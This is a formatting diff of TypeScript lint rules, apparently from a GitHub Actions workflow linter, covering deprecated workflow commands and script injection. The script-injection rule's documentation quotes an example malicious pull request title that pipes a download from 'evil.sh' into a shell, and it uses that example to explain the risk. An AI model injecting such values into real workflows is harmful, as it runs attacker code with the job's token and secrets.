@@ -28,7 +28,9 @@ const COMMAND = /::(set-output|save-state|set-env|add-path)\b/g;
 /** What may follow the echo on its line: nothing, or a comment (a shell comment in a block, a YAML comment after a plain scalar). */
 const LINE_REST = String.raw`(?=\s*$|\s+#.*$)`;
 /** `echo "::set-output name=x::value"` on one line, in the forms people write. */
-const ECHO_NAMED = new RegExp(String.raw`echo\s+(["']?)::(set-output|save-state|set-env)\s+name=([A-Za-z_][\w-]*)::(.*?)\1${LINE_REST}`);
+const ECHO_NAMED = new RegExp(
+  String.raw`echo\s+(["']?)::(set-output|save-state|set-env)\s+name=([A-Za-z_][\w-]*)::(.*?)\1${LINE_REST}`,
+);
 const ECHO_PATH = new RegExp(String.raw`echo\s+(["']?)::add-path::(.*?)\1${LINE_REST}`);
 
 function commandFix(lines: LineIndex, offset: number): Fix | undefined {
@@ -43,7 +45,15 @@ function commandFix(lines: LineIndex, offset: number): Fix | undefined {
   const quote = m[1] === "'" ? "'" : '"';
   const file = named ? (COMMANDS[named[2] ?? '']?.file ?? '') : 'GITHUB_PATH';
   const line_ = named ? `${named[3] ?? ''}=${named[4] ?? ''}` : (path?.[2] ?? '');
-  return { title: `Write to $${file} instead`, edits: [{ range: lines.range(start + m.index, start + m.index + m[0].length), newText: `echo ${quote}${line_}${quote} >> "$${file}"` }] };
+  return {
+    title: `Write to $${file} instead`,
+    edits: [
+      {
+        range: lines.range(start + m.index, start + m.index + m[0].length),
+        newText: `echo ${quote}${line_}${quote} >> "$${file}"`,
+      },
+    ],
+  };
 }
 
 /** True when `ACTIONS_ALLOW_UNSECURE_COMMANDS: true` is in an `env` that applies to the step. */
@@ -57,7 +67,8 @@ export const deprecatedCommand: Rule = {
   defaultSeverity: 'error',
   docs: {
     title: 'Deprecated or disabled workflow command',
-    description: '`::set-env` and `::add-path` are disabled: the step fails (an error), unless `ACTIONS_ALLOW_UNSECURE_COMMANDS` ' +
+    description:
+      '`::set-env` and `::add-path` are disabled: the step fails (an error), unless `ACTIONS_ALLOW_UNSECURE_COMMANDS` ' +
       'is set to `true`, which turns them back on along with the injection risk they were disabled for (a warning). ' +
       '`::set-output` and `::save-state` are deprecated: they still work and print warnings in the log (a warning). Write ' +
       '`name=value` lines to the files GitHub provides instead: `$GITHUB_OUTPUT`, `$GITHUB_STATE`, `$GITHUB_ENV`, ' +
@@ -95,7 +106,13 @@ export const deprecatedCommand: Rule = {
 /** `github.event.pull_request.title` -> `PULL_REQUEST_TITLE`; `github.head_ref` -> `HEAD_REF`. */
 function envNameFor(path: string): string {
   const parts = path.split('.').filter((p) => /^[a-z0-9_-]+$/.test(p) && p !== 'github' && p !== 'event');
-  return parts.slice(-2).join('_').replace(/[^A-Za-z0-9_]/g, '_').toUpperCase() || 'UNTRUSTED_INPUT';
+  return (
+    parts
+      .slice(-2)
+      .join('_')
+      .replace(/[^A-Za-z0-9_]/g, '_')
+      .toUpperCase() || 'UNTRUSTED_INPUT'
+  );
 }
 
 function lastContentOffset(text: string, end: number): number {
@@ -105,14 +122,21 @@ function lastContentOffset(text: string, end: number): number {
 }
 
 /** Edits that move an expression out of `run` into the step's `env`, referenced as a shell variable. */
-function moveToEnvFix(ctx: RuleContext, step: FileStep & { readonly run: Scalar }, expr: { start: number; end: number; inner: string }, use: UntrustedUse): Fix | undefined {
+function moveToEnvFix(
+  ctx: RuleContext,
+  step: FileStep & { readonly run: Scalar },
+  expr: { start: number; end: number; inner: string },
+  use: UntrustedUse,
+): Fix | undefined {
   const { lines, text } = ctx.parsed;
   const name = envNameFor(use.path);
   const lineStart = lines.offsetAt({ line: lines.positionAt(expr.start).line, character: 0 });
   const before = text.slice(lineStart, expr.start);
-  if (((before.match(/'/g) ?? []).length % 2) === 1) return undefined; // inside single quotes: $VAR would not expand
-  const inDoubleQuotes = ((before.match(/(?<!\\)"/g) ?? []).length % 2) === 1;
-  const edits: TextEdit[] = [{ range: lines.range(expr.start, expr.end), newText: inDoubleQuotes ? `$${name}` : `"$${name}"` }];
+  if ((before.match(/'/g) ?? []).length % 2 === 1) return undefined; // inside single quotes: $VAR would not expand
+  const inDoubleQuotes = (before.match(/(?<!\\)"/g) ?? []).length % 2 === 1;
+  const edits: TextEdit[] = [
+    { range: lines.range(expr.start, expr.end), newText: inDoubleQuotes ? `$${name}` : `"$${name}"` },
+  ];
   const envEntry = `${name}: \${{ ${expr.inner} }}`;
   const env = getEntry(step.node, 'env');
   if (env) {
@@ -127,7 +151,10 @@ function moveToEnvFix(ctx: RuleContext, step: FileStep & { readonly run: Scalar 
     if (!runKey?.range || !step.run.range) return undefined;
     const indent = lines.positionAt(runKey.range[0]).character;
     const end = lastContentOffset(text, step.run.range[1]);
-    edits.push({ range: lines.range(end, end), newText: `\n${' '.repeat(indent)}env:\n${' '.repeat(indent + 2)}${envEntry}` });
+    edits.push({
+      range: lines.range(end, end),
+      newText: `\n${' '.repeat(indent)}env:\n${' '.repeat(indent + 2)}${envEntry}`,
+    });
   }
   return { title: `Pass ${use.text} through env as $${name}`, edits };
 }
@@ -135,14 +162,21 @@ function moveToEnvFix(ctx: RuleContext, step: FileStep & { readonly run: Scalar 
 /** `'a'`, `'a' and 'b'`, `'a', 'b' and 'c'`. */
 function quotedList(items: readonly string[]): string {
   const quoted = [...new Set(items)].map((i) => `'${i}'`);
-  return quoted.length <= 1 ? (quoted[0] ?? '') : `${quoted.slice(0, -1).join(', ')} and ${quoted[quoted.length - 1] ?? ''}`;
+  return quoted.length <= 1
+    ? (quoted[0] ?? '')
+    : `${quoted.slice(0, -1).join(', ')} and ${quoted[quoted.length - 1] ?? ''}`;
 }
 
 /** Expressions in a scalar that put untrusted text into it, with the fields they read. */
-function untrustedExpressions(ctx: RuleContext, node: Scalar): { expr: { start: number; end: number; inner: string }; uses: UntrustedUse[] }[] {
+function untrustedExpressions(
+  ctx: RuleContext,
+  node: Scalar,
+): { expr: { start: number; end: number; inner: string }; uses: UntrustedUse[] }[] {
   const source = scalarSource(ctx.parsed.text, node);
   if (!source) return [];
-  return expressionsIn(source).map((expr) => ({ expr, uses: untrustedUsesIn(expr.inner) })).filter((e) => e.uses.length > 0);
+  return expressionsIn(source)
+    .map((expr) => ({ expr, uses: untrustedUsesIn(expr.inner) }))
+    .filter((e) => e.uses.length > 0);
 }
 
 /** The `script` input of an `actions/github-script` step: JavaScript that GitHub fills `${{ }}` into before it runs. */
@@ -160,12 +194,13 @@ export const scriptInjection: Rule = {
   defaultSeverity: 'error',
   docs: {
     title: 'Untrusted input expanded into a script',
-    description: '`${{ }}` is replaced in the script text before the script runs, so a pull request title like ' +
+    description:
+      '`${{ }}` is replaced in the script text before the script runs, so a pull request title like ' +
       '`"; curl evil.sh | sh #` becomes a command running with this job\'s token and secrets. This holds for `run:` scripts ' +
       '(in workflows and composite actions) and for the JavaScript of `actions/github-script`. Pass untrusted values ' +
       '(titles, bodies, branch names, commit messages, author names, also through filters like `github.event.*.body`) ' +
       'through `env:` and read them as quoted shell variables (`"$TITLE"`) or `process.env.TITLE`. The quick fix does ' +
-      'this for `run:`. A value only tested, as in `contains(github.event.issue.title, \'[skip]\')`, is safe.',
+      "this for `run:`. A value only tested, as in `contains(github.event.issue.title, '[skip]')`, is safe.",
   },
   check(ctx) {
     const findings: RuleFinding[] = [];
